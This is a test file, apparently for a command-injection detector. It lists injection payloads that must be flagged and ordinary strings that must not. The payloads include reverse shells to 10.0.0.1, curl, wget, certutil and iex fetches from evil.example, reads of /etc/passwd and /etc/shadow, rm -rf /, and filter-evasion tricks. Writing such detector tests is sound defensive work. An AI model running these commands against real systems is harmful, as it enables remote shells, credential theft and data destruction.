import { describe, expect, it } from 'vitest'
import { detectCommandInjection } from './commandInjection.ts'

describe('a command that a shell would start is found:', () => {
  it.each([
    // POSIX shells
    '127.0.0.1; cat /etc/passwd',
    '127.0.0.1;id',
    'a && whoami',
    'a || uname -a',
    'a | nc 10.0.0.1 4444 -e /bin/sh',
    'a & ping -c 10 127.0.0.1 &',
    '$(id)',
    'x$(curl http://evil.example/x.sh|sh)',
    '`whoami`',
    'file`sleep 5`.txt',
    "a'; ls -la; echo '",
    'a\nwget http://evil.example/x',
    'a;{cat,/etc/passwd}',
    'a;cat$IFS/etc/passwd',
    `a;cat${'$'}{IFS}$9/etc/passwd`,
    "a;c'a't /etc/passwd",
    'a;c\\at /etc/passwd',
    'a;w$@ho$@ami',
    'a;/???/c?t /etc/passwd',
    'a; /usr/bin/python3 -c "import os"',
    'a; bash -i >& /dev/tcp/10.0.0.1/80 0>&1',
    'a; rm -rf / --no-preserve-root',
    '() { :; }; echo vulnerable',
    'x > /etc/cron.d/job',
    '<(cat /etc/passwd)',
    'a;export X=1;sh -c $X',
    'a; sudo cat /etc/shadow',
    // cmd.exe
    'a & dir C:\\',
    'a | type %WINDIR%\\win.ini',
    'a & net user eve pw /add',
    'a&ipconfig /all',
    'a & w^h^o^a^m^i',
    'a & powershell -enc SQBFAFgAKAAxACkA',
    'a && del /f /q C:\\x',
    'a & certutil -urlcache -f http://evil.example/x x.exe',
    // PowerShell
    'a; Invoke-Expression $x',
    'a; iex (iwr http://evil.example/x)',
    'a; Get-Content C:\\secret.txt',
    'a; Start-Process calc',
    // in another form
    '127.0.0.1%3Bcat%20/etc/passwd',
    'a%0awhoami',
    '127.0.0.1；cat /etc/passwd',
  ])('%s', (text) => {
    expect(detectCommandInjection(text)).not.toBeNull()
  })
})

describe('ordinary text starts none:', () => {
  it.each([
    'Cats & dogs; find out more',
    'Who is it? Sort of; more or less',
    'Johnson & Johnson | Procter & Gamble',
    'R&D, Q&A, AT&T',
    'The price is $(5) or so',
    'Use `ls` to list files and `cat file` to read one.',
    '`id` is the primary key; `date` a timestamp',
    'Wait; sleep on it, then call me; at last we test',
    'first line\nfind the keys\nhead home',
    '| name | id | date |\n| --- | --- | --- |',
    'a > b; c < d',
    'Tom; who lives at 5; set the table',
    'To be, or not to be; that is the question.',
    'fish & chips; salt | pepper',
    'It costs 5; cut it in 2; sort that out',
    'x = y; z = w;',
    'Go to settings > more > time & date',
    '<b>kill</b> the lights; exit left',
  ])('%s', (text) => {
    expect(detectCommandInjection(text)).toBeNull()
  })
})

it('names the place where the command is introduced', () => {
  expect(detectCommandInjection('127.0.0.1; cat /etc/passwd')).toMatchObject({ offset: 9, decodedVia: '' })
  expect(detectCommandInjection('127.0.0.1%3Bcat%20/etc/passwd')).toMatchObject({
    offset: 9,
    decodedVia: 'percent',
  })
})
